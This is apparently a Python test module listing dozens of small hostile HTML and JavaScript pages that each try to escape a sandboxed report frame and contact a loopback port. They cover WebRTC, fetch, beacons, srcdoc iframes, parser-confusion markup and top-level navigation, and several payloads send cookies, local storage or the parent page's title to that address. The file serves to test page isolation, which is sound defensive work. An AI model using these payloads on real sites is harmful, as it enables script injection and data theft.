"""Small hostile reports: each tries one way out of its frame. `PROBES` by name, with what an open page lets through.

A probe reaches a port of its own on loopback (UDP or TCP, whatever comes first) or has a name of its own looked up.
"""

from __future__ import annotations

import html
import json
import sys
from collections.abc import Mapping
from dataclasses import dataclass
from string import Template

# Of this machine, and nobody else's: other tests ask ports of 127.0.0.1 that they believe closed.
ADDRESS = "127.83.17.5" if sys.platform == "linux" else "127.0.0.1"


@dataclass(frozen=True, slots=True)
class Probe:
    """Markup with `$address`, `$port`, `$host` and `$origin` open; `reaches`: in a page without protection it gets out."""

    markup: str
    reaches: bool = True

    def page(self, name: str, port: int) -> str:
        """The report, for its own port."""
        return Template(self.markup).substitute(
            port=port,
            address=ADDRESS,
            origin=f"http://{ADDRESS}:{port}",
            host=f"{name.replace('_', '-')}.probe.invalid",
        )


# A packet to a STUN server of our choice.
SEND = (
    "const c = new RTCPeerConnection({iceServers: [{urls: 'stun:$address:$port'}]}); c.createDataChannel('x'); "
    "c.createOffer().then(o => c.setLocalDescription(o));"
)
INNER = f"<script>{SEND}</script>"
ATTRIBUTE = html.escape(INNER)
FRAME = f'<iframe srcdoc="{ATTRIBUTE}"></iframe>'


def text(markup: str) -> str:
    """Markup as a string of JavaScript."""
    return json.dumps(markup).replace("</", "<\\/").replace("<!", "<\\!")


def script(code: str) -> str:
    """A page whose script does this."""
    return (
        f"<!doctype html><html><head><title>x</title></head><body><div id=d></div><script>{code}</script></body></html>"
    )


def markup(piece: str) -> str:
    """A page with this in its body."""
    return f"<!doctype html><html><head><title>x</title></head><body>{piece}</body></html>"


def head(piece: str) -> str:
    """A page with this in its head."""
    return f"<!doctype html><html><head>{piece}<title>x</title></head><body></body></html>"


F, INSIDE = text(FRAME), text(INNER)
XHTML = "http://www.w3.org/1999/xhtml"
# Character references of an entity are read when it is declared: what it stands for is then markup.
ENTITY = f"&#60;iframe xmlns=&#34;{XHTML}&#34; srcdoc=&#34;{ATTRIBUTE}&#34;/>"
WITH_ENTITY = text(f'<!DOCTYPE x [<!ENTITY e "{ENTITY}">]><x>&e;</x>')
PREFIXED = text(f'<h:iframe xmlns:h="{XHTML}" srcdoc="{ATTRIBUTE}"/>')
XSLT = (
    '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:output method="html"/>'
    f'<xsl:template match="/"><iframe srcdoc="{ATTRIBUTE}"></iframe></xsl:template></xsl:stylesheet>'
)
MAKE = "const f = document.createElement('iframe');"

WEBRTC: Mapping[str, Probe] = {
    "constructor": Probe(script(SEND)),
    "old_constructor": Probe(script(SEND.replace("new RTC", "new webkitRTC"))),
    "constructor_of_a_frame": Probe(
        script(f"{MAKE} d.append(f); window.RTCPeerConnection = f.contentWindow.RTCPeerConnection; {SEND}")
    ),
    "constructor_of_a_numbered_frame": Probe(
        script(f"{MAKE} d.append(f); window.RTCPeerConnection = frames[0].RTCPeerConnection; {SEND}")
    ),
    "deleted_and_asked_again": Probe(script(f"delete window.RTCPeerConnection; {SEND}"), reaches=False),
    "frame_in_markup": Probe(markup(FRAME)),
    "frame_in_odd_markup": Probe(markup(f'<IfRaMe/x="y"/SrcDoc="{ATTRIBUTE}"></iFrame x>')),
    "frame_with_line_breaks": Probe(markup(f'<iframe\f\n\tsrcdoc="{ATTRIBUTE}">')),
    "frame_before_the_head": Probe(FRAME + markup("")),
    "frame_after_the_end": Probe(markup("") + FRAME),
    "frame_after_an_odd_comment": Probe(markup(f"<!--><p>{FRAME}<!-- -->")),
    "frame_after_a_comment_with_a_bang": Probe(markup(f"<!-- --!>{FRAME}")),
    "frame_in_a_style_of_svg": Probe(markup(f"<svg><style><p>{FRAME}</style></svg>")),
    "frame_in_foreign_content": Probe(markup(f"<svg><foreignObject>{FRAME}</foreignObject></svg>")),
    "frame_in_cdata": Probe(markup(f"<![CDATA[ > {FRAME} ]]>")),
    "frame_in_a_declared_shadow": Probe(markup(f'<div><template shadowrootmode="open">{FRAME}</template></div>')),
    "frame_from_a_template": Probe(
        markup(f"<template id=t>{FRAME}</template><script>document.body.append(t.content.cloneNode(true))</script>")
    ),
    "frame_from_the_text_of_a_title": Probe(
        markup(f"<textarea id=t>{FRAME}</textarea><script>t.outerHTML = t.value</script>")
    ),
    "srcdoc_property": Probe(script(f"{MAKE} f.srcdoc = {INSIDE}; d.append(f)")),
    "srcdoc_attribute": Probe(script(f"{MAKE} f.setAttribute('srcdoc', {INSIDE}); d.append(f)")),
    "srcdoc_attribute_node": Probe(
        script(
            f"{MAKE} const a = document.createAttribute('srcdoc'); a.value = {INSIDE}; f.setAttributeNode(a); d.append(f)"
        )
    ),
    "srcdoc_attribute_moved": Probe(
        markup(
            f"<div id=d srcdoc=\"{ATTRIBUTE}\"></div><script>{MAKE} f.setAttributeNode(d.removeAttributeNode(d.getAttributeNode('srcdoc'))); d.append(f)</script>"
        )
    ),
    "frame_of_a_name_with_a_prefix": Probe(
        script(
            f"const f = document.createElementNS('{XHTML}', 'p:iframe'); f.setAttribute('srcdoc', {INSIDE}); d.append(f)"
        )
    ),
    "frame_of_another_document": Probe(
        script(
            f"const f = document.implementation.createHTMLDocument().createElement('iframe'); f.srcdoc = {INSIDE}; d.append(f)"
        )
    ),
    "frame_as_the_root_of_a_document": Probe(
        script(
            f"const f = document.implementation.createDocument('{XHTML}', 'iframe').documentElement; f.setAttribute('srcdoc', {INSIDE}); d.append(f)"
        )
    ),
    "frame_as_a_class": Probe(
        script(
            f"class F extends HTMLIFrameElement {{}} customElements.define('f-f', F, {{extends: 'iframe'}}); const f = new F(); f.srcdoc = {INSIDE}; d.append(f)"
        )
    ),
    "inner_html": Probe(script(f"d.innerHTML = {F}")),
    "outer_html": Probe(script(f"d.outerHTML = {F}")),
    "adjacent_html": Probe(script(f"d.insertAdjacentHTML('beforeend', {F})")),
    "inner_html_of_xml": Probe(
        script(f"const e = new Document().createElementNS('{XHTML}', 'div'); e.innerHTML = {PREFIXED}; d.append(e)")
    ),
    "replaced_methods": Probe(
        script(
            f"for (const p of [String.prototype, RegExp.prototype, Array.prototype]) for (const n of Object.getOwnPropertyNames(p)) try {{ p[n] = () => {F} }} catch {{}} RegExp.prototype[Symbol.replace] = () => {F}; d.innerHTML = {F}"
        )
    ),
    "range": Probe(script(f"d.append(document.createRange().createContextualFragment({F}))")),
    "written": Probe(script(f"document.write({F})")),
    "written_in_pieces": Probe(
        script(
            f"const h = {F}; document.write(h.slice(0, 4)); document.write(h.slice(4, 12)); document.write(h.slice(12))"
        )
    ),
    "written_anew": Probe(script(f"document.open(); document.write({F}); document.close()")),
    "parsed": Probe(script(f"d.append(new DOMParser().parseFromString({F}, 'text/html').querySelector('iframe'))")),
    "parsed_as_xml_with_entities": Probe(
        script(
            f"d.append(document.importNode(new DOMParser().parseFromString({WITH_ENTITY}, 'text/xml').querySelector('iframe'), true))"
        )
    ),
    "parsed_unsafe": Probe(script(f"d.append(Document.parseHTMLUnsafe({F}).querySelector('iframe'))")),
    "set_unsafe": Probe(script(f"d.setHTMLUnsafe({F})")),
    "set_unsafe_in_a_shadow": Probe(script(f"d.attachShadow({{mode: 'closed'}}).setHTMLUnsafe({F})")),
    "streamed": Probe(
        script(
            f"for (const n in d) if (/HTML/.test(n) && typeof d[n] === 'function') try {{ const w = d[n]().getWriter(); w.write({F}.slice(0, 5)); w.write({F}.slice(5)) }} catch {{}}"
        ),
        reaches=False,
    ),
    "transformed": Probe(
        script(
            f"const p = new DOMParser(), x = new XSLTProcessor(); x.importStylesheet(p.parseFromString({text(XSLT)}, 'text/xml')); d.append(x.transformToFragment(p.parseFromString('<x/>', 'text/xml'), document))"
        ),
        reaches=False,
    ),
    "edited": Probe(script(f"d.contentEditable = true; d.focus(); document.execCommand('insertHTML', false, {F})")),
    "javascript_in_markup": Probe(markup(f'<iframe src="javascript:{html.escape(SEND)}"></iframe>')),
    "javascript_of_a_frame": Probe(script(f"{MAKE} f.src = {text('javascript:' + SEND)}; d.append(f)")),
    "javascript_of_the_page": Probe(script(f"location.href = {text('javascript:' + json.dumps(INNER))}")),
    "javascript_of_a_link": Probe(
        markup(f'<a id=a href="{html.escape("javascript:" + json.dumps(INNER))}">x</a><script>a.click()</script>')
    ),
    "data_frame": Probe(markup(f'<iframe src="data:text/html,{html.escape(INNER)}"></iframe>')),
    "blob_frame": Probe(
        script(f"{MAKE} f.src = URL.createObjectURL(new Blob([{INSIDE}], {{type: 'text/html'}})); d.append(f)")
    ),
    "blob_of_the_page": Probe(
        script(f"location.href = URL.createObjectURL(new Blob([{INSIDE}], {{type: 'text/html'}}))")
    ),
    "object": Probe(markup(f'<object data="data:text/html,{html.escape(INNER)}"></object>')),
    "embed": Probe(markup(f'<embed src="data:text/html,{html.escape(INNER)}">')),
    "frameset": Probe(f'<html><frameset><frame src="data:text/html,{html.escape(INNER)}"></frameset></html>'),
    "window": Probe(script("const w = open('about:blank'); w.document.write(" + INSIDE + ")"), reaches=False),
    "fenced_frame": Probe(
        markup(f'<fencedframe src="data:text/html,{html.escape(INNER)}"></fencedframe><portal src="$origin"></portal>'),
        reaches=False,
    ),
    "web_transport": Probe(script("new WebTransport('https://$address:$port/').ready.catch(() => 0)")),
    "web_transport_of_a_worker": Probe(
        script(
            "new Worker(URL.createObjectURL(new Blob(['new WebTransport(\"https://$address:$port/\").ready.catch(() => 0)'])))"
        )
    ),
}
REQUESTS: Mapping[str, Probe] = {
    "fetch": Probe(script("fetch('$origin/', {mode: 'no-cors'}).catch(() => 0)")),
    "xhr": Probe(script("const x = new XMLHttpRequest(); x.open('GET', '$origin/'); x.send()")),
    "beacon": Probe(script("navigator.sendBeacon('$origin/', 'x')")),
    "event_source": Probe(script("new EventSource('$origin/')")),
    "web_socket": Probe(script("new WebSocket('ws://$address:$port/')")),
    "worker": Probe(script("new Worker(URL.createObjectURL(new Blob(['fetch(\"$origin/\")'])))")),
    "shared_worker": Probe(script("new SharedWorker(URL.createObjectURL(new Blob(['fetch(\"$origin/\")'])))")),
    "imported_module": Probe(script("import('$origin/x.js').catch(() => 0)")),
    "imported_data": Probe(script("import('data:text/javascript,fetch(\"$origin/\")').catch(() => 0)")),
    "script_element": Probe(script("const s = document.createElement('script'); s.src = '$origin/'; d.append(s)")),
    "image": Probe(markup('<img src="$origin/">')),
    "image_of_css": Probe(markup('<p style="background: url($origin/)">x</p>')),
    "style_sheet": Probe(head('<link rel="stylesheet" href="$origin/">')),
    "imported_style": Probe(head("<style>@import url($origin/);</style>")),
    "font": Probe(
        markup("<style>@font-face { font-family: f; src: url($origin/) } p { font-family: f }</style><p>x</p>")
    ),
    "video": Probe(markup('<video src="$origin/" autoplay></video>')),
    "svg_image": Probe(markup('<svg><image href="$origin/" width="9" height="9"/></svg>')),
    "input_image": Probe(markup('<input type="image" src="$origin/">')),
    "meta_refresh": Probe(head('<meta http-equiv="refresh" content="0;url=$origin/">')),
    "meta_refresh_spelt_oddly": Probe(head('<META/http-equiv="&#114;efresh"/content="0;url=$origin/">')),
    "meta_refresh_inserted": Probe(script("d.innerHTML = '<me' + 'ta http-equiv=refresh content=\"0;url=$origin/\">'")),
    "base": Probe(head('<base href="$origin/">') + "<img src=x>"),
    "form": Probe(markup('<form id=f action="$origin/"><input name=a value=b></form><script>f.submit()</script>')),
    "location": Probe(script("location.href = '$origin/'")),
    "link_click": Probe(markup('<a id=a href="$origin/">x</a><script>a.click()</script>')),
    "link_click_in_svg": Probe(
        markup(
            "<svg><a id=a href=\"$origin/\"><text>x</text></a></svg><script>a.dispatchEvent(new MouseEvent('click'))</script>"
        )
    ),
    "ping": Probe(markup('<a id=a href="#x" ping="$origin/">x</a><script>a.click()</script>')),
    "preconnect": Probe(head('<link rel="preconnect" href="$origin">')),
    "preconnect_made": Probe(
        script(
            "const l = document.createElement('link'); l.rel = 'preconnect'; l.href = '$origin'; document.head.append(l)"
        )
    ),
    "preconnect_inserted": Probe(script("d.innerHTML = '<link rel=preconnect href=$origin>'")),
    "prefetch": Probe(head('<link rel="prefetch" href="$origin/">')),
    "preload": Probe(head('<link rel="preload" as="image" href="$origin/">')),
    "module_preload": Probe(head('<link rel="modulepreload" href="$origin/x.js">')),
    "icon_and_manifest": Probe(
        head('<link rel="icon" href="$origin/"><link rel="manifest" href="$origin/">'), reaches=False
    ),
    "dns_prefetch": Probe(head('<link rel="dns-prefetch" href="//$host">')),
    "dns_prefetch_made": Probe(
        script(
            "const l = document.createElement('link'); l.rel = 'dns-prefetch'; l.href = '//$host'; document.head.append(l)"
        )
    ),
    "dns_prefetch_of_links": Probe(
        head('<meta http-equiv="x-dns-prefetch-control" content="on">') + '<a href="http://$host/">x</a>', reaches=False
    ),
    "speculation": Probe(
        markup(
            '<script type="speculationrules">{"prefetch": [{"urls": ["$origin/"], "eagerness": "immediate"}]}</script>'
        )
    ),
    "speculation_made": Probe(
        script(
            'const s = document.createElement(\'script\'); s.type = \'speculationrules\'; s.append(\'{"prefetch": [{"urls": ["$origin/"], "eagerness": "immediate"}]}\'); document.head.append(s)'
        )
    ),
    "prerender": Probe(
        markup(
            '<script type="speculationrules">{"prerender": [{"urls": ["$origin/"], "eagerness": "immediate"}]}</script>'
        )
    ),
    "payment": Probe(
        script(
            "new PaymentRequest([{supportedMethods: '$origin/'}], {total: {label: 'x', amount: {currency: 'EUR', value: '1'}}}).canMakePayment().catch(() => 0)"
        ),
        reaches=False,
    ),
    "audio_worklet": Probe(script("new AudioContext().audioWorklet.addModule('$origin/').catch(() => 0)")),
    "service_worker": Probe(script("navigator.serviceWorker.register('$origin/').catch(() => 0)"), reaches=False),
}
TOP: Mapping[str, Probe] = {
    "top_location": Probe(script("top.location.href = '$origin/'")),
    "parent_location": Probe(script("parent.location.replace('$origin/')")),
    "top_link": Probe(markup('<a id=a target=_top href="$origin/">x</a><script>a.click()</script>')),
    "top_form": Probe(markup('<form id=f target=_top action="$origin/"></form><script>f.submit()</script>')),
    "opened_window": Probe(script("open('$origin/')"), reaches=False),
    "opened_by_a_link": Probe(
        markup('<a id=a target=_blank href="$origin/">x</a><script>a.click()</script>'), reaches=False
    ),
    "history": Probe(script("history.back()"), reaches=False),
    "dialog": Probe(script("alert(1)"), reaches=False),
    "download": Probe(markup('<a id=a download=x href="data:,x">x</a><script>a.click()</script>'), reaches=False),
    "reading_the_page": Probe(script("fetch('$origin/' + parent.document.title)")),
    "cookies": Probe(script("fetch('$origin/' + document.cookie)")),
    "storage": Probe(script("fetch('$origin/' + localStorage.getItem('x'))")),
}
PROBES = {**WEBRTC, **REQUESTS, **TOP}
# Speculation rules count in a top page alone.
IN_A_TOP_PAGE = ("speculation", "speculation_made", "prerender")
